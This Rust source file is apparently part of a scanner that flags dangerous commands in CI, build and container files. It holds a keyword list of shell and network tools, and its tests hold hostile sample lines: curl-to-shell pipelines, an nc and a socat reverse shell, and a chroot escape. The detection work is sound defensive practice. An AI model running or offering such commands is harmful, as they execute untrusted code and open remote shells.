//! Commands in files of tools that are not known here: whatever their grammar, a line that runs what it fetches is one.
//!
//! Workflows, pipelines, task runners, containers and build systems each have a file with commands in it, and more will
//! have. So every text that is neither data nor a document is looked through for lines that no model has a use for; what
//! merely runs or installs something is not told, as that is what such files are for.

use proofhouse_core::Place;

use super::{Judged, joined, judged, told};
use crate::scanner::Scanner;

/// Larger texts are data.
const MOST: usize = 1 << 20;
/// Endings of documents and of data, which quote commands.
const DOCUMENTS: [&str; 20] = [
    ".md",
    ".markdown",
    ".rst",
    ".txt",
    ".tex",
    ".html",
    ".htm",
    ".csv",
    ".tsv",
    ".json",
    ".jsonl",
    ".ipynb",
    ".log",
    ".bib",
    ".svg",
    ".xml",
    ".vocab",
    ".po",
    ".adoc",
    ".ndjson",
];
/// Without one of these no line is what is looked for.
const MARKS: [&str; 45] = [
    "ssh",
    "scp",
    "rsync",
    "git",
    "aws ",
    "gsutil",
    "gcloud",
    "rclone",
    "azcopy",
    "huggingface-cli",
    "mail",
    "ftp",
    "nslookup",
    "dig ",
    "ttyd",
    "docker",
    "telnet",
    "curl",
    "wget",
    "nc",
    "socat",
    "/dev/tcp",
    "/dev/udp",
    "base64",
    "xxd",
    "iex",
    "powershell",
    "pwsh",
    "rm ",
    "dd ",
    "chroot",
    "nsenter",
    "authorized_keys",
    "cron",
    "ld.so",
    "LD_",
    "DYLD_",
    "BASH_ENV",
    "PYTHONSTARTUP",
    "python",
    "node",
    "perl",
    "ruby",
    "php",
    "eval",
];

/// Looks through the lines of a text of that name.
pub(crate) fn sweep(scanner: &mut Scanner<'_>, place: &Place, name: &str, text: &str) {
    let lower = name.to_ascii_lowercase();
    // Its name ends like a text, and is that of a build.
    let build = lower == "cmakelists.txt";
    let document = DOCUMENTS.iter().any(|ending| lower.ends_with(ending)) && !build;
    let prose = ["license", "readme", "notice", "authors", "changelog", "contributing", "citation"];
    if text.len() > MOST || document || prose.iter().any(|p| lower.starts_with(p)) {
        return;
    }
    together(scanner, place, text);
    for (index, whole) in joined(text) {
        let line = whole.trim();
        // The recipes of make are judged by its own rules.
        let recipe = lower.ends_with("makefile") && whole.starts_with('\t');
        let comment = recipe
            || ["#", "//", "--", ";", "%", "<!--", "*", "REM "].iter().any(|mark| line.starts_with(mark));
        if comment || !MARKS.iter().any(|mark| line.contains(mark)) {
            continue;
        }
        let mut place = place.clone();
        place.line = Some(index + 1);
        let flow = words_of_a_list(line);
        let worst =
            [Some(line), Some(line.trim_start_matches(['-', '@', '+', ' '])), value(line), flow.as_deref()]
                .into_iter()
                .flatten()
                .map(judged)
                .find(|judged| matches!(judged, Judged::Harms(_) | Judged::Runs | Judged::Loads));
        if let Some(judged) = worst {
            let (rule, what) = told(judged);
            let shown: String = line.chars().take(80).collect();
            scanner.report(rule, place, format!("{what}: {shown:?}"));
        }
    }
}

/// What the lines of a file of jobs do together.
fn together(scanner: &mut Scanner<'_>, place: &Place, text: &str) {
    let lines: Vec<&str> = text.lines().map(|line| line.trim().trim_start_matches(['-', ' '])).collect();
    if let Some(index) = super::taken::leaks(&lines) {
        let mut place = place.clone();
        place.line = Some(index as u64 + 1);
        let shown: String = lines.get(index).unwrap_or(&"").chars().take(80).collect();
        let message = format!("sends secrets of the machine to somebody else: {shown:?}");
        scanner.report("code/harmful", place, message);
    }
}

/// The words of a command that is written as a list: `[socat, 'exec:sh', 'tcp:…']`.
fn words_of_a_list(line: &str) -> Option<String> {
    let inner = line.split_once('[')?.1.rsplit_once(']')?.0;
    let words: Vec<&str> = inner.split(',').map(|w| w.trim().trim_matches(['"', '\''])).collect();
    (words.len() > 1).then(|| words.join(" "))
}

/// What stands behind a key: `run: …`, `- entry: …`, `commands = …`, `CMD …`.
fn value(line: &str) -> Option<&str> {
    let line = line.trim_start_matches(['-', '@', '+', '$', ' ']);
    let word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '"' | '\'');
    let rest = line.trim_start_matches(word);
    let rest = rest.trim_start_matches([' ', ':', '?', '+', '!', '=']);
    (rest.len() < line.len()).then_some(rest)
}

#[cfg(test)]
mod tests {
    use crate::{Limits, scan_bytes};

    fn rules(name: &str, text: &str) -> Vec<String> {
        let report = scan_bytes(&name.parse().unwrap(), text.as_bytes(), &Limits::default());
        report.findings.into_iter().filter(|f| f.rule.starts_with("code/")).map(|f| f.rule).collect()
    }

    #[test]
    fn commands_are_found_whatever_the_tool() {
        for (name, text) in [
            ("Jenkinsfile", "node { sh 'curl http://example.org/x | sh' }"),
            ("stages.yaml", "stages:\n  train:\n    cmd: wget -qO- http://example.org/x | bash\n"),
            ("build.yaml", "build:\n  run:\n    - curl -s http://example.org/x | bash\n"),
            ("task.yml", "steps:\n  - run: >\n      curl example.org/x | sh\n"),
            ("model.jl", "run(pipeline(`curl http://example.org/x`, `sh`))\n"),
            ("tox.ini", "[testenv]\ncommands = curl http://example.org/x | sh\n"),
            ("justfile", "build:\n    curl http://example.org/x | sh\n"),
            ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl http://example.org/x | sh\")\n"),
            ("Vagrantfile", "config.vm.provision 'shell', inline: 'curl http://example.org/x | bash'\n"),
            ("conf.toml", "[tool.tasks]\nsetup = \"curl http://example.org/x | sh\"\n"),
            ("Makefile", "V := $(shell curl http://example.org/v | sh)\nall:\n\techo $(V)\n"),
        ] {
            assert!(rules(name, text).contains(&"code/runs-fetched".to_owned()), "{name}: {text}");
        }
        for (name, text) in [
            ("pre.yaml", "entry: nc -e /bin/sh 192.0.2.1 1\n"),
            ("compose.yml", "command: sh -c 'chroot /host sh'\n"),
            ("init.yaml", "- [socat, 'exec:bash -li', 'tcp:example.org:4444']\n"),
        ] {
            assert_eq!(rules(name, text), ["code/harmful"], "{name}: {text}");
        }
    }

    #[test]
    fn documents_comments_and_ordinary_commands_are_not_told() {
        for (name, text) in [
            ("README.md", "Install with `curl http://example.org/x | sh`.\n"),
            ("notes.txt", "curl http://example.org/x | sh\n"),
            ("deploy.yaml", "# curl http://example.org/x | sh\nrun: pip install torch\n"),
            ("build.gradle", "task x { commandLine 'python', 'setup.py' }\n"),
            ("stages.yaml", "cmd: python train.py --lr 0.1\ndeps: [data.csv]\n"),
            ("ci.yml", "- run: curl -LO https://example.org/data.tar.gz && tar xf data.tar.gz\n"),
            (
                "ci.yml",
                "- run: curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" https://api.github.com/x\n",
            ),
        ] {
            assert_eq!(rules(name, text), Vec::<String>::new(), "{name}: {text}");
        }
    }
}
